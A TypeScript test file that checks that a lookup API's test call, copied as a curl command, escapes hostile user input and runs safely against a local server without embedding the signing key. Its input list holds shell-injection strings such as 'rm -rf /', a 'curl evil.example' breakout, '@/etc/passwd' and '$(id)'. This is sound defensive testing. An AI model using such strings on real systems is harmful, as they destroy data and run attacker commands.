import assert from 'node:assert/strict';
import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import { createDesk, memoryStorage, type LookupApiDraft, type LookupTransport } from '@deskcard/core';
import { createProvider, nodeListener } from '@deskcard/core/provider';
import { fetchTransport } from '@deskcard/http/fetch-transport';
import { asCurl } from './curl.js';

const isMissing = (tool: string): boolean => spawnSync(tool, ['version']).error !== undefined;
const missing = ['bash', 'curl', 'openssl'].filter(isMissing);
const skip = missing.length > 0 && `this machine has no ${missing.join(', ')}`;

/** What people have typed to see what gives. */
const hostile = [
  "it's $(touch /tmp/owned)",
  '`id`; rm -rf / #',
  '"$HOME" && echo owned',
  "'; curl evil.example; '",
  '@/etc/passwd',
  '!!history $(date) ${IFS} %s %n \\',
  '홍길동 🔑 ﷽',
  'line\nbreak\r\ttab\u001b[31m',
  '-H x --output /tmp/owned',
  "'",
];

const draft = (baseUrl: string, security: LookupApiDraft['security']): LookupApiDraft => ({
  name: 'Members',
  baseUrl,
  security,
  searchItems: hostile.map((_, index) => ({
    itemId: `i${index}`,
    division: 'general' as const,
    control: 'text' as const,
    required: false,
    screenName: `Value ${index}`,
    variableName: index === 0 ? "it's `a` $name" : `v${index}`,
    dataLength: 0,
  })),
  resultItems: [],
});

async function run(script: string, env: Record<string, string> = {}): Promise<{ code: number; out: string }> {
  const child = spawn('bash', ['-uo', 'pipefail', '-c', script], {
    env: { PATH: process.env['PATH'] ?? '', LANG: 'C.UTF-8', NO_PROXY: '*', ...env },
  });
  let out = '';
  for (const stream of [child.stdout, child.stderr]) stream.on('data', (part) => (out += String(part)));
  const [code] = (await once(child, 'close')) as [number];
  return { code, out };
}

describe('a test call copied as curl', { skip }, () => {
  let server: Server;
  let url = '';
  let key = '';
  let signedText: LookupApiDraft['security']['signedText'] = 'body+timestamp';
  /** what the provider understood, call by call */
  const received: Record<string, string>[] = [];

  before(async () => {
    server = createServer((request, response) => {
      const provider = createProvider({
        ...(key === '' ? { allowUnsigned: true } : { keys: key }),
        signedText,
        lookup: (inputs) => (received.push({ ...inputs }), { name: 'Mina' }),
      });
      void nodeListener(provider)(request, response);
    }).listen(0, '127.0.0.1');
    await once(server, 'listening');
    url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  after(() => server.close());

  /** The real exchange of an administrator's test call, and the key it was signed with. */
  async function testCall(security: LookupApiDraft['security'], path: string) {
    const transport: LookupTransport = fetchTransport({ allowInsecure: true });
    const desk = createDesk({
      storage: memoryStorage(),
      transport,
      principal: { user: 'mina', role: 'admin' },
      settings: { allowInsecureProviders: true },
    });
    const api = await desk.lookups.save(draft(url + path, security));
    key = security.mode === 'none' ? '' : (await desk.lookups.showKey({ apiId: api.apiId })).key;
    signedText = security.signedText;
    received.length = 0;
    const inputs = Object.fromEntries(
      api.searchItems.map(({ variableName }, index) => [variableName, hostile[index]!]),
    );
    const exchange = await desk.lookups.test({ api, inputs });
    assert.equal(exchange.result.outcome, 'found', 'the call itself reaches the provider');
    return { request: exchange.request, command: asCurl(exchange.request, security.signedText) };
  }

  for (const [mode, text] of [
    ['none', 'body+timestamp'],
    ['signature', 'body+timestamp'],
    ['signature', 'uri+body+timestamp'],
  ] as const) {
    it(`makes the same call, with every hostile value as it was typed (${mode}, ${text})`, async () => {
      const path = "/it's/{a,b}/[1-3]?x=$(id)&y='";
      const { command } = await testCall({ mode, signedText: text }, path);
      execFileSync('bash', ['-n', '-c', command]);
      const { code, out } = await run(command, { LOOKUP_KEY: key });
      assert.equal(code, 0, out);
      assert.match(out, /"name":\s*"Mina"/);
      assert.equal(received.length, 2);
      assert.deepEqual(received[1], received[0]);
      assert.deepEqual(Object.values(received[1]!).sort(), [...hostile].sort());
    });
  }

  it('never holds the key nor what was signed with it, and says what is missing (trap 14)', async () => {
    const { request, command } = await testCall({ mode: 'signature', signedText: 'body+timestamp' }, '/a');
    assert.ok(!command.includes(key));
    assert.ok(!command.includes(request.headers['Authorization']!));
    assert.ok(command.includes(`X-Deskcard-Key-Id: ${request.headers['X-Deskcard-Key-Id']!}`));
    const { code, out } = await run(command);
    assert.notEqual(code, 0);
    assert.match(out, /LOOKUP_KEY: must be the key of this lookup API/);
    assert.equal(received.length, 1, 'nothing was sent');
    const wrong = await run(command, { LOOKUP_KEY: 'bf7769e5321448de88838cdb' });
    assert.match(wrong.out, /error/);
    assert.equal(received.length, 1, 'a wrong key signs nothing the provider takes');
  });

  it('of an encrypted call is the message as it was sent', () => {
    const body = 'eyJhbGciOiJkaXIifQ..a.b.c';
    const headers = { 'Content-Type': 'application/jose', Accept: 'application/jose' };
    const command = asCurl({ url: 'https://a.example/', headers, body }, 'body+timestamp');
    execFileSync('bash', ['-n', '-c', command]);
    assert.ok(command.includes(`--data-raw '${body}'`));
    assert.doesNotMatch(command, /openssl/);
  });
});
